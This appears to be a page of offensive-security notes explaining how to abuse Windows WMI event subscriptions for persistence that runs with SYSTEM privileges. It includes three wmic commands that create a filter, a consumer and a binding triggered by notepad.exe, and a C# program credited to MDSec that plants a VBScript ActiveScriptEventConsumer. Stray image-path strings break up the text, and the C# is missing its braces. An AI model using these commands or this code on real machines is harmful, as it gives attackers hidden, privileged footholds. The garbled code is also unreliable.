WMI Event Subscriptions

WMI Event subscriptions can be abused for persistence with payloads that will run with SYSTEM privileges. WMI eventing can be used on action to almost any system event, this includes: logins, registry, file activity etc.

There are 3 things to remember about WMI

  1. EventFilter: Action that triggers the payload

  2. EventConsumer: Where the payload will be stored •

  3. FilterToConsumerBinding: Binds the “EventFilter” and “EventConsumer”

This can be done with the wmic utility:

wmic /NAMESPACE:"\\root\subscription" PATH __EventFilter CREATE Name="INFilter", EventNameSpace="root\cimv2",QueryLanguage="WQL", Query="Select * From__InstanceCreationEvent Within 15 Where (TargetInstance Isa 'Win32_Process' And TargetInstance.Name = 'notepad.exe')"

The above command will kickoff if there is a instance of x32 notepad.exe in memory.

wmic /NAMESPACE:"\\root\subscription" PATH CommandLineEventConsumer CREATE Name="NAME", ExecutablePath="C:\Windows\System32\calc.exe",CommandLineTemplate="C:\Windows\System32\calc.exe"

The above command is what to run if notepad.exe is executed.

wmic /NAMESPACE:"\root\subscription" PATH FilterToConsumerBinding CREATEFilter="EventFilter.Name=\"INFilter\"", Consumer="CommandLineEventConsumer.Name=\"NAME\""

The above command will bind the “EventFilter” and “EventConsumer” which will achieve persistence everytime an instance of a x32 notepad is executed.

If we run x32 notepad, we will see an instance of calc being ran with SYSTEM privileges.

We can also implement this in other languages like C#(stolen from mdsec)

// COMPLETELY STOLEN FROM HERE: https://github.com/mdsecactivebreach/WMIPersistence/blob/master/WMIPersist.cs
using System;using System.Text;
using System.Management;

namespace WMIPersistence
    class Program
        static void Main(string[] args)

        static void PersistWMI()
            ManagementObject myEventFilter = null;
            ManagementObject myEventConsumer = null;
            ManagementObject myBinder = null;

            string vbscript64 = "<INSIDE base64 encoded VBS here>";
            string vbscript = Encoding.UTF8.GetString(Convert.FromBase64String(vbscript64));
                ManagementScope scope = new ManagementScope(@"\\.\root\subscription");

                ManagementClass wmiEventFilter = newManagementClass(scope, new
                ManagementPath("__EventFilter"), null);
                String strQuery = @"SELECT * FROM __InstanceCreationEvent WITHIN 5 " +
        "WHERE TargetInstance ISA \"Win32_Process\" " +
        "AND TargetInstance.Name = \"notepad.exe\"";

                WqlEventQuery myEventQuery = new WqlEventQuery(strQuery);
                myEventFilter = wmiEventFilter.CreateInstance();
                myEventFilter["Name"] ="demoEventFilter";
                myEventFilter["Query"] = myEventQuery.QueryString;
                myEventFilter["QueryLanguage"] = myEventQuery.QueryLanguage;
                myEventFilter["EventNameSpace"] = @"\root\cimv2";
                Console.WriteLine("[*] Event filter created.");

                myEventConsumer =
                new ManagementClass(scope, new ManagementPath("ActiveScriptEventConsumer"),
                myEventConsumer["Name"] = "BadActiveScriptEventConsumer";
                myEventConsumer["ScriptingEngine"] = "VBScript";
                myEventConsumer["ScriptText"] = vbscript;

                Console.WriteLine("[*] Event consumer created.");myBinder =
                new ManagementClass(scope, new ManagementPath("__FilterToConsumerBinding"),
                myBinder["Filter"] =myEventFilter.Path.RelativePath;
                myBinder["Consumer"] = myEventConsumer.Path.RelativePath;

                Console.WriteLine("[*] Subscription created");
            catch (Exception e)
            } // END CATCH
        } // END FUNC
    } //END CLASS


Last updated